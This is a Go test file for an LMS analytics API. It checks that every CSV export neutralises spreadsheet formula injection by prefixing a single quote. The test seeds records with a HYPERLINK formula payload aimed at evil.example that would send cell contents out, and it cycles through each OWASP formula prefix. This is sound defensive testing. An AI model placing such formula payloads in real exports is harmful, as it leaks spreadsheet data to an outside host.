package api

import (
	"bufio"
	"bytes"
	"encoding/csv"
	"errors"
	"io"
	"net/http"
	"strings"
	"testing"
)

// csvExports are every CSV export of the API, with whether its records
// carry text a learner, a course author or the LMS's configuration chose
// (and so must show the hostile value, neutralised).
var csvExports = []struct {
	path     string
	freeText bool
}{
	{"/figures/api/learner-metrics/", true},
	{"/figures/api/users-general/", true},
	{"/figures/api/users-detail/", true},
	{"/figures/api/user-index/", true},
	{"/figures/api/enrollment-metrics/", true},
	{"/figures/api/enrollment-metrics/completed/", true},
	{"/figures/api/enrollment-metrics/completed_ids/", false},
	{"/figures/api/course-enrollments/", true},
	{"/figures/api/courses-index/", true},
	{"/figures/api/courses-general/", true},
	{"/figures/api/courses-detail/", true},
	{"/figures/api/course-daily-metrics/", false},
	{"/figures/api/site-daily-metrics/", true},
	{"/figures/api/course-mau-metrics/", true},
	{"/figures/api/site-mau-metrics/", true},
	{"/figures/api/course-monthly-metrics/", false},
	{"/figures/api/course-mau-live-metrics/", true},
	{"/figures/api/admin/sites/", true},
	{"/figures/api/pipeline-runs/", true},
	{"/figures/api/pipeline-runs/errors/", true},
}

// formulaPrefixes are the characters OWASP lists as starting a formula.
var formulaPrefixes = []struct{ name, prefix string }{
	{"equals", "="}, {"plus", "+"}, {"minus", "-"}, {"at", "@"}, {"tab", "\t"}, {"cr", "\r"},
}

// TestCSVFormulaInjection gives every text column a learner, an author or
// the LMS's settings can fill a value that starts a formula (each OWASP
// prefix in turn) and checks, in every CSV export, that no cell a
// spreadsheet reads starts a formula, that the hostile value arrives
// whole behind a single quote, that every text cell is quoted (so an
// embedded separator never starts a cell), and that numbers, negative
// ones included, stay numbers.
func TestCSVFormulaInjection(t *testing.T) {
	e := sqliteEnv(t)
	for _, pf := range formulaPrefixes {
		t.Run(pf.name, func(t *testing.T) {
			hostile := pf.prefix + `HYPERLINK("http://evil.example/?x="&A1,"click");=1+2,@SUM(1)`
			for _, stmt := range []string{
				"UPDATE figures_learner SET username = ?, email = ?, fullname = ?, country = ?, gender = ?, level_of_education = ?",
				"UPDATE figures_course SET display_name = ?, org = ?, number = ?",
				"UPDATE figures_site SET name = ?, domain = ?",
				"UPDATE figures_courseenrollment SET mode = ?",
				"UPDATE figures_run SET message = ?, kind = ?",
			} {
				args := make([]any, strings.Count(stmt, "?"))
				for i := range args {
					args[i] = hostile
				}
				exec(t, e.db, stmt, args...)
			}
			exec(t, e.db, "DELETE FROM figures_pipelineerror")
			exec(t, e.db, `INSERT INTO figures_pipelineerror (created, modified, error_type, error_data, course_id, user_id, site_id, run_id)
VALUES (?, ?, ?, ?, ?, -7, NULL, 2)`, e.db.Time(fixtureNow), e.db.Time(fixtureNow), hostile, hostile, courseA1)
			e.srv.siteCache = siteCache{}
			for _, ex := range csvExports {
				t.Run(strings.Trim(strings.TrimPrefix(ex.path, Prefix), "/"), func(t *testing.T) {
					rec := e.do(t, e.tokAll, ex.path+"?format=csv", nil)
					if rec.Code != http.StatusOK || rec.Header().Get("Content-Type") != "text/csv; charset=utf-8" {
						t.Fatalf("%d %s: %s", rec.Code, rec.Header().Get("Content-Type"), rec.Body)
					}
					cells := checkCSVSafe(t, rec.Body.Bytes())
					if cells[`'`+hostile] == 0 && ex.freeText {
						t.Errorf("the hostile value never appears neutralised:\n%s", rec.Body)
					}
					if cells[hostile] > 0 {
						t.Errorf("the hostile value appears as is")
					}
				})
			}
		})
	}
	// The pipeline error above has user_id -7: a negative number stays a
	// number.
	rec := e.do(t, e.tokAll, "/figures/api/pipeline-runs/errors/?format=csv", nil)
	if !strings.Contains(rec.Body.String(), ",-7,") {
		t.Errorf("negative number not written as a number:\n%s", rec.Body)
	}
}

// checkCSVSafe parses an export as a spreadsheet would and fails when a
// cell could start a formula; it returns how often each cell value occurs.
// The header must need no quoting.
func checkCSVSafe(t *testing.T, body []byte) map[string]int {
	t.Helper()
	r := csv.NewReader(bytes.NewReader(body))
	r.FieldsPerRecord = 0
	counts := map[string]int{}
	first := true
	for {
		rec, err := r.Read()
		if errors.Is(err, io.EOF) {
			break
		}
		if err != nil {
			t.Fatalf("not CSV: %v\n%s", err, body)
		}
		if first {
			first = false
			continue
		}
		for _, c := range rec {
			counts[c]++
			if startsFormula(c) && !csvNumber(c) {
				t.Errorf("cell %q starts a formula", c)
			}
		}
	}
	sc := bufio.NewScanner(bytes.NewReader(body))
	sc.Buffer(nil, 1<<20)
	sc.Scan() // header
	header := sc.Text()
	for _, name := range strings.Split(header, ",") {
		if strings.Trim(name, "abcdefghijklmnopqrstuvwxyz0123456789._") != "" {
			t.Errorf("header name %q needs quoting", name)
		}
	}
	return counts
}

// TestCSVCell pins the cell rules: numbers bare, text quoted, formulas
// behind a single quote, separators and quotes kept inside the cell.
func TestCSVCell(t *testing.T) {
	for _, tc := range []struct{ in, want string }{
		{"", ""},
		{"12", "12"},
		{"-0.5", "-0.5"},
		{"0.125", "0.125"},
		{"-", `"'-"`},
		{"-1+2", `"'-1+2"`},
		{"1e5", `"1e5"`},
		{"+Inf", `"'+Inf"`},
		{"NaN", `"NaN"`},
		{"1.", `"1."`},
		{".5", `".5"`},
		{"Alice Archer", `"Alice Archer"`},
		{`=1+2";=1+2`, `"'=1+2"";=1+2"`},
		{`=1+2'" ;,=1+2`, `"'=1+2'"" ;,=1+2"`},
		{"  =cmd", `"'  =cmd"`},
		{"\t=cmd", "\"'\t=cmd\""},
		{"\r\n@x", "\"'\r\n@x\""},
		{"＝1+1", `"'＝1+1"`},
		{"a,b", `"a,b"`},
		{"a;=b", `"a;=b"`},
		{"2023-11-16", `"2023-11-16"`},
	} {
		var b bytes.Buffer
		w := bufio.NewWriter(&b)
		writeCSVCell(w, tc.in)
		w.Flush()
		if b.String() != tc.want {
			t.Errorf("%q: got %s, want %s", tc.in, b.String(), tc.want)
		}
	}
}
